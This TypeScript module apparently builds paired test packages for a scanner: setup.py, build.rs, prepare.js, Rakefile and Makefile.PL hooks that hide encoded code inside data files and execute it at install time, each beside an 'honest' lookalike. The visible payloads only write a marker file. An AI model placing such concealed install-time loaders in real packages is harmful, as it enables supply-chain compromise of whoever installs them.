import { deflateSync, gzipSync } from "node:zlib"
import { crateFiles, folderOf, gemFiles, moduleFiles, type Native, nameOf, python, rotated, ruby, script, setupFiles } from "./native.ts"

export const visibleNatives = {
  setupExec: {
    format: "sdist",
    payload: python,
    encode: (payload) => Buffer.from(deflateSync(payload).toString("base64")),
    write: ({ names, path, at, size, words: [one, two] }) => ({
      path: "setup.py",
      shown: [`${one} = sorted(`, `exec(${two}`],
      files: setupFiles(
        names,
        `import base64\nimport glob\nimport zlib\n\nfrom setuptools import setup\n\n${one} = sorted(glob.glob("${folderOf(path)}/${nameOf(path).slice(0, 4)}*"))[0]\nwith open(${one}, "rb") as ${two}_file:\n    ${two} = ${two}_file.read()[${at}:${at + size}]\nexec(${two} and zlib.decompress(base64.b64decode(${two})))\n`,
      ),
    }),
    honest: ({ names, path, words: [one, two] }) =>
      setupFiles(
        names,
        `import glob\nimport zlib\n\nfrom setuptools import setup\n\n${one} = sorted(glob.glob("${folderOf(path)}/${nameOf(path).slice(0, 4)}*"))[0]\nwith open(${one}, "rb") as ${two}_file:\n    ${two} = ${two}_file.read()\nprint("${nameOf(path)}: crc32", zlib.crc32(${two}))\n`,
      ),
  },
  setupTranslate: {
    format: "sdist",
    payload: python,
    encode: (payload) => rotated(payload, 13),
    write: ({ names, path, size, mark, words: [one, two, three] }) => ({
      path: "setup.py",
      shown: [`for ${one} in os`, `eval(compile(`],
      files: setupFiles(
        names,
        `import os\n\nfrom setuptools import setup\n\nfor ${one} in os.listdir("${folderOf(path)}"):\n    ${two} = open(os.path.join("${folderOf(path)}", ${one}), "rb").read()\n    ${three} = ${two}.find(b"\\n${mark}\\n")\n    if ${three} >= 0:\n        ${two} = ${two}[${three} + ${mark.length + 2}:${three} + ${mark.length + 2 + size}]\n        eval(compile(${two}.translate(bytes((${one} - 13) % 256 for ${one} in range(256))), "setup", "exec"))\n`,
      ),
    }),
    honest: ({ names, path, words: [one, two] }) =>
      setupFiles(
        names,
        `import os\n\nfrom setuptools import setup\n\nfor ${one} in os.listdir("${folderOf(path)}"):\n    ${two} = open(os.path.join("${folderOf(path)}", ${one}), "rb").read()\n    if ${two}.find(b"\\0") < 0:\n        raise SystemExit(f"{${one}} is no table")\n`,
      ),
  },
  buildRs: {
    format: "crate",
    payload: 'fn settle() { let _ = std::fs::write("MARKER", ""); }\n',
    encode: (payload) => Buffer.from(payload.toString("hex")),
    write: ({ names, path, at, size, words: [one, two] }) => ({
      path: "build.rs",
      shown: [`let ${one} =`, "std::fs::write("],
      files: crateFiles(
        names,
        `fn main() {\n    let ${one} = std::fs::read("${path}").unwrap_or_default();\n    let ${two}: Vec<u8> = ${one}[${at}..${at + size}]\n        .chunks(2)\n        .filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())\n        .collect();\n    let to = std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("tables.rs");\n    std::fs::write(to, ${two}).unwrap();\n}\n`,
        'include!(concat!(env!("OUT_DIR"), "/tables.rs"));\n\npub fn tables() {\n    settle();\n}\n',
      ),
    }),
    honest: ({ names, words: [one, two] }) =>
      crateFiles(
        names,
        `fn main() {\n    let ${one} = std::fs::read_to_string("src/units.txt").unwrap_or_default();\n    let ${two}: String = ${one}\n        .lines()\n        .filter_map(|line| line.split_once(' '))\n        .map(|(name, value)| format!("pub const {}: u32 = {};\\n", name.to_uppercase(), value))\n        .collect();\n    let to = std::path::Path::new(&std::env::var("OUT_DIR").unwrap()).join("tables.rs");\n    std::fs::write(to, ${two}).unwrap();\n}\n`,
        'include!(concat!(env!("OUT_DIR"), "/tables.rs"));\n',
      ),
  },
  prepareJs: {
    format: "npm",
    payload: script,
    encode: (payload) => Buffer.from(gzipSync(payload)),
    write: ({ names, path, at, size, words: [one, two] }) => ({
      path: "scripts/prepare.js",
      shown: [`const ${one} =`, "new Function("],
      files: moduleFiles(
        names,
        `const fs = require("node:fs")\nconst zlib = require("node:zlib")\n\nconst ${one} = fs.readFileSync("${path}")\nconst ${two} = zlib.gunzipSync(${one}.subarray(${at}, ${at + size})).toString()\nnew Function("require", ${two})(require)\n`,
      ),
    }),
    honest: ({ names, path, words: [one, two] }) =>
      moduleFiles(
        names,
        `const fs = require("node:fs")\nconst zlib = require("node:zlib")\n\nconst ${one} = fs.readFileSync("${path}")\nconst ${two} = zlib.gzipSync(${one}).length\nconsole.log("${nameOf(path)}", ${one}.length, ${two})\n`,
      ),
  },
  rakefile: {
    format: "gem",
    payload: ruby,
    encode: (payload) => Buffer.from(payload.toString("base64")),
    write: ({ names, path, at, size, words: [one, two] }) => ({
      path: "Rakefile",
      shown: [`${one} = Dir`, "eval "],
      files: {
        ...gemFiles(names),
        Rakefile: `task :default do\n  ${one} = Dir.glob("${folderOf(path)}/${nameOf(path).slice(0, 3)}*").first\n  ${two} = File.binread(${one}, ${size}, ${at})\n  eval ${two}.unpack1("m")\nend\n`,
      },
    }),
    honest: ({ names, path, words: [one, two] }) => ({
      ...gemFiles(names),
      Rakefile: `task :default do\n  ${one} = Dir.glob("${folderOf(path)}/${nameOf(path).slice(0, 3)}*").first\n  ${two} = File.binread(${one})\n  abort "#{${one}} is empty" if ${two}.empty?\nend\n`,
    }),
  },
  makefilePl: {
    format: "tar.gz",
    payload: 'open my $mark, ">", "MARKER";\n',
    encode: (payload) => Buffer.from(payload.toString("hex")),
    write: ({ names, path, mark, words: [one, two] }) => ({
      path: "Makefile.PL",
      shown: [`open my $${one}`, `eval $${two}`],
      files: {
        "Makefile.PL": `use strict;\nuse ExtUtils::MakeMaker;\n\nopen my $${one}, "<", "${path}" or die;\nlocal $/;\nmy ($${two}) = <$${one}> =~ /^${mark}\\n([0-9a-f]+)/m;\n$${two} = pack "H*", $${two};\neval $${two};\n\nWriteMakefile(NAME => "${names.project}", VERSION => "${names.version}");\n`,
        [`lib/${names.project}.pm`]: `package ${names.project};\n1;\n`,
      },
    }),
    honest: ({ names, path, words: [one, two] }) => ({
      "Makefile.PL": `use strict;\nuse ExtUtils::MakeMaker;\n\nopen my $${one}, "<", "${path}" or die;\nlocal $/;\nmy ($${two}) = <$${one}> =~ /^msgstr "(.+)"/m;\nprint "language: $${two}\\n";\n\nWriteMakefile(NAME => "${names.project}", VERSION => "${names.version}");\n`,
      [`lib/${names.project}.pm`]: `package ${names.project};\n1;\n`,
    }),
  },
} as const satisfies Readonly<Record<string, Native>>
